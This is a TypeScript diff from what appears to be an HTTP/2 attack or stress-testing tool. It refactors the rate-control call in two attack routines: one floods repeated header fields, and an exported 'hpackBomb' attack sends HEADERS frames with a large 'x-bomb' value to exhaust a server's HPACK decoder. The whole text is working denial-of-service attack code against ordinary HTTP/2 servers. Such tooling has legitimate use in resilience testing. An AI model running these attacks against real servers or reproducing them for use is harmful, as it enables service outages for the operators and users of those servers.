@@ -24,14 +24,10 @@ function repeated(connection: RawHttp2, field: Field, count: number): Buffer {
 async function repeat(attacker: Attacker, valueOf: (index: number) => Field): Promise<void> {
   await attacker.lanes(2, async () => {
     const connection = await attacker.http2();
-    await attacker.atRate(
-      REQUESTS_PER_SECOND,
-      () => !connection.isOver,
-      (index) => {
-        const block = repeated(connection, valueOf(Math.floor(index / REQUESTS_PER_SECOND)), REPEATS);
-        connection.write(frame(Type.HEADERS, END_HEADERS | END_STREAM, connection.nextStream(), block));
-      },
-    );
+    await attacker.atRate(REQUESTS_PER_SECOND, connection, (index) => {
+      const block = repeated(connection, valueOf(Math.floor(index / REQUESTS_PER_SECOND)), REPEATS);
+      connection.write(frame(Type.HEADERS, END_HEADERS | END_STREAM, connection.nextStream(), block));
+    });
     attacker.note('answers', connection.answers);
     attacker.note('streams reset', connection.resets);
   });
@@ -72,13 +68,9 @@ export const hpackBomb: Attack = {
   run: (attacker) =>
     attacker.lanes(2, async () => {
       const connection = await attacker.http2();
-      await attacker.atRate(
-        REQUESTS_PER_SECOND,
-        () => !connection.isOver,
-        () => {
-          const block = repeated(connection, ['x-bomb', 'b'.repeat(VALUE_BYTES)], BOMB_BYTES);
-          connection.write(frame(Type.HEADERS, END_HEADERS | END_STREAM, connection.nextStream(), block));
-        },
-      );
+      await attacker.atRate(REQUESTS_PER_SECOND, connection, () => {
+        const block = repeated(connection, ['x-bomb', 'b'.repeat(VALUE_BYTES)], BOMB_BYTES);
+        connection.write(frame(Type.HEADERS, END_HEADERS | END_STREAM, connection.nextStream(), block));
+      });
     }),
 };
